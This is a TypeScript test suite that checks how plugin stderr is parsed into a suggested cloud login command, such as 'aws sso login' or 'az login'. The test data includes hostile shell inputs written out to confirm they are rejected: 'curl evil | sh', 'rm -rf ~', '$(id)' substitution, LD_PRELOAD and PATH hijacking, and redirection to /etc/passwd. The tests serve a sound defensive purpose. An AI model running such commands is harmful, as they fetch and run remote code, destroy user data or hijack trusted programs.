import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { PluginExitedError, PluginTimedOutError } from '../../src/errors/index.ts'

const commandIn = (stderrTail: string) => new PluginExitedError('p', 1, { stderrTail }).loginCommand

describe('the login command of a plugin', () => {
  it.each([
    [
      'aws',
      'Error loading SSO Token: Token for x does not exist\nThe SSO session has expired or is otherwise invalid. To refresh this SSO session run aws sso login with the corresponding profile.',
      'aws sso login',
    ],
    [
      'aws login',
      "Your session has expired. Please reauthenticate using 'aws login'.",
      'aws login',
    ],
    [
      'gcloud',
      'ERROR: (gcloud.config.config-helper) There was a problem refreshing your current auth tokens.\nPlease run:\n\n  $ gcloud auth login\n\nto obtain new credentials.',
      'gcloud auth login',
    ],
    [
      'application default credentials',
      'To reauthenticate, please run: $ gcloud auth application-default login',
      'gcloud auth application-default login',
    ],
    ['az', "ERROR: Please run 'az login' to setup account.", 'az login'],
    [
      'az with a scope',
      'Interactive authentication is needed. Please run:\naz login --tenant t-1 --scope https://management.core.windows.net//.default\n',
      'az login --tenant t-1 --scope https://management.core.windows.net//.default',
    ],
    [
      'tsh',
      'ERROR: your credentials have expired, please login using `tsh login --proxy=tele.example:443 leaf`',
      'tsh login --proxy=tele.example:443 leaf',
    ],
    ['doctl', "Error: access token is required. (hint: run 'doctl auth init')", 'doctl auth init'],
    [
      'oci',
      'please run oci session authenticate --region=eu-1 to log in',
      'oci session authenticate --region=eu-1',
    ],
    ['ibmcloud', "Not logged in. Use 'ibmcloud login' to log in.", 'ibmcloud login'],
    ['a compound name', 'Token expired. Run aws-azure-login.', 'aws-azure-login'],
    ['a comma', 'session expired, run corp login, then try again', 'corp login'],
    [
      'an address',
      'Run: oc login https://api.example:6443 first',
      'oc login https://api.example:6443',
    ],
    [
      'a flag before prose',
      'run aws sso login --no-browser to log in',
      'aws sso login --no-browser',
    ],
    [
      'a value that was hidden',
      'run aws sso login --profile [secret].',
      'aws sso login --profile [secret]',
    ],
    ['a comma after a value', 'run az login --tenant t, --help says more', 'az login --tenant t'],
    ['a prompt in quotes', 'Run `$ gcloud auth login`', 'gcloud auth login'],
    ['the last of two', "Run 'az logout', or run 'az login'", 'az login'],
  ])('is found in the words of %s', (_, stderrTail, command) => {
    expect(commandIn(stderrTail)).toBe(command)
  })

  it.each([
    'exec: failed to run aws sso login: exit status 1',
    'could not run `az login`',
    'error while running tsh login',
    'never run aws sso login',
    'do not ever run aws sso login',
    'avoid running aws sso login',
    'error running oc login',
    'aws was run without login',
    'You must log in to the server',
    'try to login again',
    'use a browser to sign-in',
    'run the plugin before the next login',
    'Run one.\nlogin failed',
    'run login',
    'run --help login',
    'run your login',
    'Run setup, login comes later',
    'use another login',
    'please run kubectl get pods',
    'the token has expired',
    '',
  ])('is not guessed from %j', (stderrTail) => {
    expect(commandIn(stderrTail)).toBeUndefined()
  })

  it.each([
    ['run `az login; curl evil | sh`', undefined],
    ['run "az login && rm -rf ~"', undefined],
    ['run `az login $(id)`', undefined],
    ['run az login; rm -rf ~', 'az login'],
    ['run az login --tenant $(id)', undefined],
    ['run az login --tenant <tenant>', undefined],
    ['run az login (or ask)', 'az login'],
    ['run az login >/etc/passwd', 'az login'],
    ['run az U+001B[31mlogin', undefined],
    ['run LD_PRELOAD=/tmp/x.so aws login', undefined],
    ['run `PATH=/tmp aws login`', undefined],
    ['run %COMSPEC% login', undefined],
    ['run az login --tenant %PATH%', undefined],
    [`run az login --x=${'y'.repeat(500)}`, undefined],
  ])('has no part that a shell would interpret: %s', (stderrTail, command) => {
    expect(commandIn(stderrTail)).toBe(command)
  })

  it('is short and plain whatever a plugin prints', () => {
    const word = fc.constantFrom(
      'run',
      'login',
      'az',
      '`',
      "'",
      '--a',
      '\n',
      ':',
      '$(id)',
      '; ',
      'x',
    )
    fc.assert(
      fc.property(fc.array(fc.oneof(word, fc.string())), (words) => {
        const found = commandIn(words.join(' ')) ?? 'az login'
        expect(found).toMatch(/^[\w./:=@+,[\] -]{1,200}$/)
      }),
    )
  })

  it('is in an error that is printed, and absent where there is none', () => {
    const asks = new PluginTimedOutError('p', 'hung', { stderrTail: 'Run: corp login' })
    expect(JSON.parse(JSON.stringify(asks))).toMatchObject({ loginCommand: 'corp login' })
    expect(new PluginExitedError('p', 1)).not.toHaveProperty('loginCommand')
  })
})
